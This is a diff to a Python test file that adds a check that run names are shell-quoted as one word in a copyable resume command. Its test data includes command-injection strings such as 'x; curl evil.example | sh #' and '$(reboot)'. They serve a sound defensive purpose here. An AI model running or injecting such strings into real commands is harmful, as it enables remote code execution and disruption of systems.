@@ -1,5 +1,6 @@
 """What a run view says: a sentence for every state, numbers dressed but never computed."""
 
+import shlex
 from typing import Any
 
 import pytest
@@ -89,6 +90,27 @@ def test_a_killed_trainer_with_a_checkpoint_gets_the_command_to_go_on(js: JavaSc
     saved = {"checkpoint": {"step": 5, "path": "p", "bytes": 1}}
     assert notice(js, {"health": "gone"}, saved)["command"].endswith("unfrozen resume r")
     assert "command" not in notice(js, {"health": "gone"})
+
+
+@pytest.mark.parametrize(
+    ("name", "word"),
+    [
+        ("20261126-091203-7f3c", "20261126-091203-7f3c"),
+        ("x; curl evil.example | sh #", "'x; curl evil.example | sh #'"),
+        ("$(reboot)", "'$(reboot)'"),
+        ("it's `here`", "'it'\\''s `here`'"),
+        ("--help", "-- --help"),
+        ("a b\nc", "'a b\nc'"),
+        ("", "''"),
+    ],
+)
+def test_a_name_in_a_command_to_copy_is_one_word_of_the_shell(
+    js: JavaScript, name: str, word: str
+) -> None:
+    saved = {"run": name, "checkpoint": {"step": 5, "path": "p", "bytes": 1}}
+    command = notice(js, {"health": "gone"}, saved)["command"]
+    assert command == f"unfrozen resume {word}"
+    assert shlex.split(command)[2:] in ([name], ["--", name])
 
 
 def test_a_run_that_was_stopped_here_gets_the_command_to_go_on(js: JavaScript) -> None:
